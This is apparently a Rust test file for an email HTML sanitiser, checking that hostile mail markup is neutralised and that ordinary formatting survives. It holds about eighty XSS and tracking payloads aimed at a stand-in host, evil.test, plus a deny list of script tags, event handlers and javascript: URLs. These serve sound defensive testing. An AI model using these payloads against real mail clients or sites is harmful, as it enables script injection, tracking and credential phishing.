//! Tricks of hostile mail.

use super::*;

fn parts() -> HashMap<String, String> {
    HashMap::from([("logo@x".to_owned(), "part?part=2&inline=1".to_owned())])
}

fn blocked(markup: &str) -> String {
    clean(markup, parts(), Remote::Blocked).markup
}

/// Things that must occur in no output, however they were dressed up.
const NEVER: [&str; 24] = [
    "<script",
    "javascript:",
    "vbscript:",
    "onerror",
    "onload",
    "onclick",
    "onfocus",
    "ontoggle",
    "<iframe",
    "<object",
    "<embed",
    "<form",
    "<input",
    "<button",
    "<meta",
    "<base",
    "<link",
    "<style",
    "<svg",
    "<math",
    "srcdoc",
    "srcset",
    "url(",
    "evil.test",
];

#[test]
fn attacks_come_to_nothing() {
    let attacks = [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.test/x.js></SCRIPT>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<script>/*</script><script>*/alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<img/src=`x`onerror=alert(1)>",
        "<img src=\"x\" \" onerror=alert(1)>",
        "<img src=javascript:alert(1)>",
        "<img src=\"https://evil.test/pixel.gif\" srcset=\"https://evil.test/2x 2x\">",
        "<img src=\" \u{1}https://evil.test/x\">",
        "<img src=\"//evil.test/x\">",
        "<img src=data:text/html,<script>alert(1)</script>>",
        "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
        "<img src=\"cid:unknown\">",
        "<img src=\"cid:logo@x/../../api/session\">",
        "<body onload=alert(1)>x</body>",
        "<body background=\"https://evil.test/x\">",
        "<table background=\"https://evil.test/x\"><tr><td background=https://evil.test/x>x</table>",
        "<svg onload=alert(1)><script>alert(1)</script></svg>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
        "<math href=\"javascript:alert(1)\">x</math>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<template><img src=x onerror=alert(1)></template>",
        "<textarea><img src=x onerror=alert(1)></textarea>",
        "<title><img src=x onerror=alert(1)></title>",
        "<xmp><img src=x onerror=alert(1)></xmp>",
        "<iframe src=https://evil.test></iframe>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<frameset><frame src=https://evil.test></frameset>",
        "<object data=https://evil.test/x.swf><param name=movie value=https://evil.test></object>",
        "<embed src=https://evil.test/x>",
        "<applet code=x archive=https://evil.test/x.jar></applet>",
        "<video src=https://evil.test/x poster=https://evil.test/y><source src=https://evil.test/z></video>",
        "<audio src=https://evil.test/x autoplay onplay=alert(1)></audio>",
        "<form action=https://evil.test><input name=password><button formaction=https://evil.test>x</button></form>",
        "<isindex action=https://evil.test type=image>",
        "<meta http-equiv=refresh content=\"0;url=https://evil.test\">",
        "<meta http-equiv=Set-Cookie content=x>",
        "<base href=https://evil.test/>",
        "<link rel=stylesheet href=https://evil.test/x.css>",
        "<link rel=dns-prefetch href=//evil.test>",
        "<style>@import url(https://evil.test/x.css);</style>",
        "<style>body{background:url(https://evil.test/x)}</style>",
        "<p style=\"background:url(https://evil.test/x)\">x</p>",
        "<p style=\"background:\\75 rl(https://evil.test/x)\">x</p>",
        "<p style=\"background:ur/**/l(https://evil.test/x)\">x</p>",
        "<p style=\"list-style-image:url(https://evil.test/x)\">x</p>",
        "<p style='background:&#117;&#114;&#108;(https://evil.test/x)'>x</p>",
        "<p style=\"width:expression(alert(1))\">x</p>",
        "<p style=\"-moz-binding:url(https://evil.test/x.xml#y)\">x</p>",
        "<p style=\"x:\"; onclick=alert(1)>x</p>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
        "<a href=\"java\nscript:alert(1)\">x</a>",
        "<a href=\"java&#x09;script:alert(1)\">x</a>",
        "<a href=\"&#106;avascript:alert(1)\">x</a>",
        "<a href=\"\u{1}javascript:alert(1)\">x</a>",
        "<a href=\"vbscript:msgbox(1)\">x</a>",
        "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
        "<a href=\"cid:logo@x\">x</a>",
        "<a href=\"//evil.test\">x</a>",
        "<a href=x onclick=alert(1)>x</a>",
        "<a target=_top href=mailto:x@y ping=https://evil.test>x</a>",
        "<details open ontoggle=alert(1)>x</details>",
        "<input autofocus onfocus=alert(1)>",
        "<marquee onstart=alert(1)>x</marquee>",
        "<div><p><b></div></p></b><img src=x onerror=alert(1)",
        "<!--[if IE]><script>alert(1)</script><![endif]-->",
        "<!--><img src=x onerror=alert(1)>-->",
        "<![CDATA[<img src=x onerror=alert(1)>]]>",
        "<?xml-stylesheet href=\"javascript:alert(1)\"?>",
        "<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(1)</x:script>",
        "<img src=\"https://evil.test/x\" width=\"100%\" height=\"1;url(x)\">",
        "<table><tr><td><a href=https://x.test style=\"position:fixed;background:url(https://evil.test)\">x</a></table>",
        "<select><option><img src=x onerror=alert(1)></select>",
        "</body></html><script>alert(1)</script>",
        "\u{0}<scr\u{0}ipt>alert(1)</scr\u{0}ipt>",
    ];
    for attack in attacks {
        let cleaned = blocked(attack);
        // Text that a reader sees does no harm: it is escaped.
        let markup = tags(&cleaned).to_ascii_lowercase();
        for never in NEVER {
            assert!(!markup.contains(never), "{attack}\n became {cleaned}\n which holds {never}");
        }
    }
}

/// The tags of a markup, without the text between them.
fn tags(markup: &str) -> String {
    let mut tags = String::new();
    for piece in markup.split('<').skip(1) {
        tags.push('<');
        tags.push_str(piece.split_once('>').map_or(piece, |(tag, _)| tag));
        tags.push('>');
    }
    tags
}

#[test]
fn bombs_are_bounded() {
    for bomb in ["<div>", "<b><i>", "<table><tr><td>", "<a href=x>", "<font>", "<p style=\"", "&", "<", "<!--"] {
        let cleaned = blocked(&bomb.repeat(5_000));
        assert!(cleaned.len() < 2_000_000, "{bomb}");
    }
}

#[test]
fn endless_ones_are_cut() {
    let (kept, is_whole) = bounded("short <b>one</b>");
    assert!(kept.len() == 16 && is_whole);
    let endless = "<p>".repeat(MOST_ELEMENTS + 7);
    let (kept, is_whole) = bounded(&endless);
    assert!(kept.len() == MOST_ELEMENTS * 3 && !is_whole);
    let growing =
        format!("<p>{}{}", (0..400).map(|n| format!("<font size={n}>")).collect::<String>(), "<p>x".repeat(20_000));
    assert!(!super::is_whole(&growing));
    let cleaned = clean(&growing, HashMap::new(), Remote::Blocked);
    assert!(cleaned.cut && cleaned.markup.ends_with(REST) && cleaned.markup.len() < 20_000_000);
    assert!(!blocked("<p data-rest>Pay here.</p>").contains("data-rest"), "only we say that something is left out");
}

#[test]
fn images_are_blocked_until_they_are_wanted() {
    let markup = "<img src=\"https://pic.test/a.png\" alt=a><img src='http://pic.test/b'><img src=\"cid:logo@x\">\
                  <img src=\"data:image/png;base64,AAAA\">";
    let calm = clean(markup, parts(), Remote::Blocked);
    assert_eq!(calm.remote_images, 2);
    assert!(!calm.markup.contains("pic.test") && calm.markup.contains("alt=\"a\""), "{}", calm.markup);
    assert!(calm.markup.contains("src=\"part?part=2&amp;inline=1\""), "{}", calm.markup);
    assert!(calm.markup.contains("data:image/png;base64,AAAA"));
    let shown = clean(markup, parts(), Remote::Shown);
    assert!(shown.markup.contains("https://pic.test/a.png") && shown.remote_images == 2);
}

#[test]
fn links_open_elsewhere_and_tell_nobody() {
    let cleaned =
        blocked("<a href=\"https://x.test/?a=1&b=2\" target=_self rel=opener>x</a><a href='mailto:a@b'>y</a>");
    assert!(cleaned.contains("href=\"https://x.test/?a=1&amp;b=2\""), "{cleaned}");
    assert_eq!(cleaned.matches("target=\"_blank\"").count(), 2, "{cleaned}");
    assert_eq!(cleaned.matches("rel=\"noopener noreferrer\"").count(), 2, "{cleaned}");
}

#[test]
fn ordinary_mail_keeps_its_looks() {
    let cleaned = blocked(
        "<center><table width=600 bgcolor=\"#eee\" cellpadding=4><tr><td align=center style=\"color:red;position:fixed\">\
         <font color=\"blue\" size=\"2\">Hello</font><br></td></tr></table></center>",
    );
    for wanted in ["<center>", "width=\"600\"", "bgcolor=\"#eee\"", "align=\"center\"", "style=\"color: red\"", "<font"]
    {
        assert!(cleaned.contains(wanted), "{wanted} is gone: {cleaned}");
    }
}

#[test]
fn content_ids_are_compared_decoded() {
    assert_eq!(content_id(" <a%40b> "), "a@b");
    assert_eq!(content_id("a%4"), "a%4");
    assert_eq!(content_id("100%grün%zz"), "100%grün%zz");
}

#[test]
fn what_the_body_lies_on_stays() {
    for (markup, wanted) in [
        (
            "<html><body bgcolor=\"#001122\" text=white><p>x</p>",
            "<div style=\"background-color: #001122; color: white\"><p>x</p></div>",
        ),
        (
            "<BODY style='background: #204 url(http://evil.test/x); color:#fff'>x</body>",
            "<div style=\"background-color: #204; color: #fff\">x</div>",
        ),
        (
            "<!-- <body bgcolor=red> --><body bgcolor = 102030 onload=alert(1)>x",
            "<div style=\"background-color: #102030\">x</div>",
        ),
        ("<body style=\"font-family: &quot;A&quot;, B\">x", "<div style=\"font-family: &quot;A&quot;, B\">x</div>"),
        ("<body bgcolor=navy style=\"@import 'x'\">x", "<div style=\"background-color: navy\">x</div>"),
        ("<body bgcolor='red\" onload=alert(1) x=\"'>x", "x"),
        ("<body>x", "x"),
        ("<bodyx bgcolor=red>x", "x"),
        ("<body =é bgcolor", ""),
        ("<body style=\"color:red", ""),
    ] {
        let cleaned = blocked(markup);
        if wanted.is_empty() {
            assert!(!cleaned.contains("onload"), "{markup}: {cleaned}");
        } else {
            assert_eq!(cleaned, wanted, "{markup}");
        }
    }
}
